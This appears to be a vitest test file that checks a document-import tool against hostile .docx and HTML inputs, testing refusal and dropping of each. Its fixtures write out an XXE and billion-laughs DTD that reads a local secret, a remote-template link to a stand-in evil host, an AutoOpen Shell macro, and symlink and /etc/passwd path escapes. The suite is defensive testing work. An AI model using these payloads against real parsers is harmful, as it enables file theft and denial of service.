/**
 * A stranger's document, one fixture per attack, through the real command: nothing is fetched,
 * nothing outside the input is read, nothing runs; limits give clear messages; a broken file gets
 * one line naming it, exit 1, and nothing written.
 */
import fs from 'node:fs';
import path from 'node:path';
import mammoth from 'mammoth';
import { beforeAll, describe, expect, it } from 'vitest';
import { FIXTURES } from '../helpers/seed.js';
import { tempDirs } from '../helpers/temp-dirs.js';
import { IMAGE, generateModel, modelDocx } from './documents.js';
import { entriesOf, pngHeader, replaceEntry, writeZip } from './hostile-docs.js';
import { build, epubText, runImport } from './outputs.js';

const tempDir = tempDirs();

/** Every file under a folder, relative, or [] when it does not exist. */
function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return [];
  return (fs.readdirSync(dir, { recursive: true }) as string[]).filter((f) => fs.statSync(path.join(dir, f)).isFile());
}

function allText(dir: string): string {
  return filesUnder(dir)
    .map((f) => fs.readFileSync(path.join(dir, f), 'latin1'))
    .join('\n');
}

describe('hostile and broken documents', () => {
  let work: string;
  let base: Buffer;
  const SECRET = 'SECRET-OUTSIDE-7f3a';

  beforeAll(async () => {
    work = tempDir('pamphleteer-import-hostile-');
    const model = generateModel({
      title: 'Plain Text',
      author: 'A. Writer',
      lang: 'en',
      vocabulary: 'plain words of an ordinary document nothing special at all'.split(' '),
      headings: ['One'],
      paragraphs: 2,
      endnotes: false,
      seed: 3,
    });
    base = await modelDocx(model);
    // What an attacker would like to read: beside the work folder, never inside an input's folder.
    fs.writeFileSync(path.join(work, 'secret.txt'), `${SECRET}\n`);
    fs.copyFileSync(IMAGE, path.join(work, 'secret.png'));
    fs.mkdirSync(path.join(work, 'in'));
  });

  async function importFile(name: string, bytes: Buffer) {
    fs.writeFileSync(path.join(work, 'in', name), bytes);
    const into = path.join(work, `out-${name}`);
    const result = await runImport([path.join('in', name), '--into', into], work);
    return { ...result, into };
  }

  function expectRefused(result: Awaited<ReturnType<typeof importFile>>, message: RegExp) {
    expect(result.code, result.stdout + result.stderr).toBe(1);
    expect(result.stderr.trim().split('\n')).toHaveLength(1);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toMatch(/internal error|\n\s+at /);
    expect(filesUnder(result.into)).toEqual([]);
    expect(fs.existsSync(result.into)).toBe(false);
  }

  it('a zip bomb that declares its size: refused before anything is inflated', async () => {
    const entries = await entriesOf(base);
    entries.push({ name: 'word/bomb.xml', data: Buffer.alloc(1000), declaredSize: 3_000_000_000 });
    const result = await importFile('bomb-declared.docx', writeZip(entries));
    expectRefused(result, /^error: in\/bomb-declared\.docx: word\/bomb\.xml would inflate to 2861\.0 MB .*zip bomb/);
  });

  it('a zip bomb that lies about its size: inflating stops at what it declared', async () => {
    const entries = await entriesOf(base);
    entries.push({ name: 'word/bomb.xml', data: Buffer.alloc(20 * 1024 * 1024), declaredSize: 1000 });
    const result = await importFile('bomb-lying.docx', writeZip(entries));
    expectRefused(result, /word\/bomb\.xml inflates to more than it declares: refused as a zip bomb/);
  });

  it('many entries that together inflate past the limit', async () => {
    const entries = await entriesOf(base);
    for (let i = 0; i < 4; i++)
      entries.push({ name: `word/media/big${i}.bin`, data: Buffer.alloc(10), declaredSize: 90 * 1024 * 1024 });
    const result = await importFile('bomb-total.docx', writeZip(entries));
    expectRefused(result, /would inflate to \d+\.\d MB \(limit 250\.0 MB\): refused as a zip bomb/);
  });

  it('XML entities (XXE, billion laughs): mammoth resolves none; import refuses the DTD with one line', async () => {
    const dtd =
      `<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://${path.join(work, 'secret.txt')}">` +
      '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';
    const entries = await entriesOf(base);
    const withEntities = (use: string) =>
      writeZip(
        replaceEntry(entries, 'word/document.xml', (xml) =>
          xml
            .replace(/^(<\?xml[^>]*\?>)?/, `$1${dtd}`)
            .replace('<w:t xml:space="preserve">', `<w:t xml:space="preserve">${use} `),
        ),
      );
    // mammoth on its own, with the entity used and unused: the secret is never in what it makes.
    for (const use of ['&xxe; &c;', '']) {
      const read = await mammoth.convertToHtml({ buffer: withEntities(use) }).then(
        (r) => r.value,
        (err: Error) => err.message,
      );
      expect(read).not.toContain(SECRET);
      expect(read).not.toContain('aaaaaaaaaa'.repeat(10));
    }
    const result = await importFile('xxe.docx', withEntities('&xxe; &c;'));
    expectRefused(result, /word\/document\.xml declares XML entities \(<!DOCTYPE>\), which Word never writes/);
  });

  it('external relationships: a linked image outside the folder and a remote template are listed, never read', async () => {
    const withImage = await entriesOf(
      await modelDocx({
        ...generateModel({
          title: 'Linked',
          author: 'B',
          lang: 'en',
          vocabulary: ['word'],
          headings: ['H'],
          paragraphs: 1,
          endnotes: false,
          seed: 1,
        }),
      }),
    );
    // The embedded picture becomes a link to a file outside the document's folder.
    let entries = replaceEntry(withImage, 'word/_rels/document.xml.rels', (rels) =>
      rels.replace(
        /(<Relationship\b[^>]*Type="[^"]*\/image"[^>]*Target=")[^"]*("[^>]*)\/>/,
        `$1file://${path.join(work, 'secret.png')}$2 TargetMode="External"/>`,
      ),
    );
    entries = replaceEntry(entries, 'word/document.xml', (xml) => xml.replace(/r:embed=/g, 'r:link='));
    entries = replaceEntry(entries, 'word/_rels/document.xml.rels', (rels) =>
      rels.replace(
        '</Relationships>',
        '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
          'Target="https://evil.example.invalid/template.dotm" TargetMode="External"/></Relationships>',
      ),
    );
    const result = await importFile('linked.docx', writeZip(entries));
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain(
      `dropped: an external image (file://${path.join(work, 'secret.png')}): not fetched or read`,
    );
    expect(result.stdout).toContain(
      'dropped: an external attachedTemplate (https://evil.example.invalid/template.dotm)',
    );
    expect(result.stdout).toMatch(/dropped: a linked image not read/);
    expect(filesUnder(result.into).filter((f) => f.includes('images'))).toEqual([]);
    expect(allText(result.into)).not.toContain(SECRET);
  });

  it('macros (.docm with vbaProject.bin): imported without them, reported, never copied', async () => {
    const entries = await entriesOf(base);
    entries.push({ name: 'word/vbaProject.bin', data: Buffer.from(`Sub AutoOpen()\n Shell "${SECRET}"\nEnd Sub`) });
    const result = await importFile('macros.docm', writeZip(entries));
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('dropped: macros (word/vbaProject.bin): never run, not copied');
    expect(filesUnder(result.into).some((f) => f.endsWith('.bin'))).toBe(false);
    expect(allText(result.into)).not.toContain(SECRET);
  });

  it('a 200-megapixel image: its header is read, the image refused with its size, its alt text kept', async () => {
    const withImage = await entriesOf(
      await modelDocx({
        ...generateModel({
          title: 'Huge',
          author: 'C',
          lang: 'en',
          vocabulary: ['word'],
          headings: ['H'],
          paragraphs: 1,
          endnotes: false,
          seed: 2,
        }),
      }),
    );
    const media = withImage.find((e) => e.name.startsWith('word/media/'))!;
    media.data = pngHeader(20_000, 10_000);
    const result = await importFile('huge-image.docx', writeZip(withImage));
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('dropped: an image: 20000 × 10000 pixels (200 megapixels; limit 50)');
    expect(filesUnder(result.into).filter((f) => f.includes('images'))).toEqual([]);
  });

  it('scripts, handlers, frames, forms and escaping images in a web page: none copied, none read, and it builds', async () => {
    const page = path.join(work, 'page');
    fs.cpSync(path.join(FIXTURES, 'import-hostile-html'), page, { recursive: true });
    fs.mkdirSync(path.join(page, 'page_files'));
    fs.symlinkSync(path.join(work, 'secret.png'), path.join(page, 'page_files/link.png'));
    fs.copyFileSync(path.join(work, 'secret.png'), path.join(work, 'outside.png'));
    const into = path.join(work, 'out-page');
    const result = await runImport([path.join(page, 'page.html'), '--into', into], work);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toMatch(
      /dropped: .*3 scripts, 7 event handlers, 2 javascript: links, 1 frame, 2 embedded objects, 1 form/,
    );
    expect(result.stdout).toContain('an image (../outside.png): outside the page’s folder: not read');
    expect(result.stdout).toContain(
      'an image (page_files/link.png): outside the page’s folder (through a link): not read',
    );
    expect(result.stdout).toContain('an image outside the page’s folder (file:///etc/passwd): not read');
    const markdown = allText(path.join(into, 'manuscript'));
    for (const bad of ['script', 'steal', 'onclick', 'onerror', 'javascript:', 'iframe', 'evil.example', '<'])
      expect(markdown).not.toContain(bad);
    expect(filesUnder(into).filter((f) => f.includes('images'))).toEqual([]);
    expect(markdown).toContain('The last paragraph, after all of that, is still here.');
    expect(markdown).toContain('[^1]: The note survives a poisoned link inside it.');
    const built = await build(into);
    expect(await epubText(built.epub)).toContain('is still here');
  });

  for (const [what, name, bytes, message] of [
    ['a text file named .docx', 'notes.docx', Buffer.from('just some text\n'), /not a zip archive \(a \.docx is one\)/],
    ['an empty .docx', 'empty.docx', Buffer.alloc(0), /not a zip archive/],
    [
      'a spreadsheet named .docx',
      'sheet.docx',
      writeZip([{ name: 'xl/workbook.xml', data: Buffer.from('<x/>') }]),
      /not a Word document: the archive has no word\/document\.xml/,
    ],
    [
      'binary data named .html',
      'page.html',
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]),
      /not a web page: it holds binary data/,
    ],
    ['an OpenDocument text', 'essay.odt', Buffer.from('PK'), /\.odt is not read .*pandoc x\.odt -o x\.docx/],
    [
      'a PDF',
      'essay.pdf',
      Buffer.from('%PDF-1.4'),
      /not a document pamphleteer imports \(\.docx, \.docm, \.html, \.htm, \.xhtml\)/,
    ],
  ] as const) {
    it(`${what}: one line naming it, exit 1, nothing written`, async () => {
      expectRefused(
        await importFile(name, bytes),
        new RegExp(`^error: in/${name.replace('.', '\\.')}: ${message.source}`),
      );
    });
  }

  it('a truncated .docx: one line, exit 1, nothing written', async () => {
    expectRefused(
      await importFile('cut.docx', base.subarray(0, Math.floor(base.length / 2))),
      /^error: in\/cut\.docx: not a zip archive/,
    );
  });

  it('a second document that is broken: nothing of the first is written either', async () => {
    fs.writeFileSync(path.join(work, 'in', 'good.docx'), base);
    fs.writeFileSync(path.join(work, 'in', 'bad.docx'), 'not a zip');
    const into = path.join(work, 'out-two');
    const result = await runImport(['in/good.docx', 'in/bad.docx', '--into', into], work);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^error: in\/bad\.docx: not a zip archive/);
    expect(fs.existsSync(into)).toBe(false);
  });
});
